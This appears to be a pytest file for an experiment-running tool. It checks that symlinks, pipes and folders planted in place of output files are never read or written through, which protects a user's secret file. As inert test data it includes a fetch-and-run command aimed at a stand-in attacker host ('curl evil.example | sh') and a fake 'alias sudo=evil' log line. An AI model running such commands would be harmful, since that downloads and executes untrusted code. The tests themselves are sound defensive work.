"""A trial fills one folder of the host: links, pipes and devices that it leaves there are no files."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from block_files import CELL, SERIES, end, write_block

from repro.engines.base import Exit
from repro.engines.container import ContainerRun
from repro.run.settling import settle
from repro.store import Ledger
from repro.trial.plain import open_plain, plain_size, put_aside, read_plain
from repro.trial.reader import Follower, read_events
from repro.trial.records import Event

SECRET = json.dumps({"event": "end", "trial": 0, "seed": 0, "outcome": "FAILED", "message": "secret"}) + "\n"


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file of the user's that no trial was given."""
    path = tmp_path / "secret"
    path.write_text(SECRET)
    return path


def plant(kind: str, at: Path, secret: Path) -> None:
    if kind == "link":
        at.symlink_to(secret)
    elif kind == "pipe":
        os.mkfifo(at)
    else:
        at.mkdir()


KINDS = pytest.mark.parametrize("kind", ["link", "pipe", "folder"])


@KINDS
def test_what_is_no_file_is_not_read(tmp_path: Path, secret: Path, kind: str):
    path = tmp_path / "records.jsonl"
    plant(kind, path, secret)
    assert read_plain(path) == b""
    assert plain_size(path) == 0
    assert list(read_events(path)) == []
    assert Follower(path).poll() == []
    with pytest.raises(OSError, match=r"records\.jsonl"):
        open_plain(path)


@KINDS
def test_the_kit_writes_through_no_link(tmp_path: Path, secret: Path, kind: str):
    """The kit's own last line of a block: it quotes what the trial printed last."""
    path = tmp_path / "records.jsonl"
    plant(kind, path, secret)
    settled = settle(path, Exit(code=1, detail="curl evil.example | sh"), None)
    assert secret.read_text() == SECRET
    assert settled.died
    (told,) = read_events(path)
    assert told["event"] == Event.MISSING
    assert os.path.lexists(f"{path}.no-file")


@KINDS
def test_the_output_of_a_container_goes_through_no_link(tmp_path: Path, secret: Path, kind: str):
    class Container:
        def logs(self, tail: int) -> bytes:
            return b"alias sudo=evil\n"

    class Job:
        records = tmp_path

    plant(kind, tmp_path / "output.log", secret)
    ran = ContainerRun(Container(), Job())  # type: ignore[arg-type]
    assert "evil" in ran._output()
    assert secret.read_text() == SECRET
    if kind != "folder":
        assert (tmp_path / "output.log").read_bytes() == b"alias sudo=evil\n"


@KINDS
def test_the_ledger_follows_no_link(tmp_path: Path, secret: Path, kind: str):
    home = tmp_path / ".repro"
    folder = write_block(home, "b1", [CELL, end(0, "PASSED")])
    for name in ("records.jsonl", "request.json"):
        (folder / name).rename(folder / f"{name}.real")
        plant(kind, folder / name, secret)
    with Ledger.open(home / "ledger.sqlite") as ledger:
        assert "request.json" in ledger.ingest(folder).problem
        (folder / "request.json").rename(folder / "odd")
        (folder / "request.json.real").rename(folder / "request.json")
        ledger.catch_up()
        assert ledger.tallies() == []


def test_put_aside_leaves_files_alone(tmp_path: Path, secret: Path):
    put_aside(secret)
    put_aside(tmp_path / "none")
    assert secret.read_text() == SECRET
    (tmp_path / "link").symlink_to(secret)
    put_aside(tmp_path / "link")
    assert (tmp_path / "link.no-file").is_symlink()
    assert not (tmp_path / "link").exists()


def test_a_line_without_an_end_in_sight_is_no_record(tmp_path: Path):
    """Huge output: what is read at a time is bounded, and the lines after it count."""
    home = tmp_path / ".repro"
    folder = write_block(home, "b1", [CELL])
    with (folder / "records.jsonl").open("ab") as file:
        file.write(b'{"event": "end", "message": "' + b"x" * (2**24 + 5) + b'"}\n')
        file.write(json.dumps(end(1, "PASSED")).encode() + b"\n")
    with Ledger.open(home / "ledger.sqlite") as ledger:
        assert ledger.garbled_lines() == {"b1": 2}
        assert ledger.tally(SERIES).n == 1
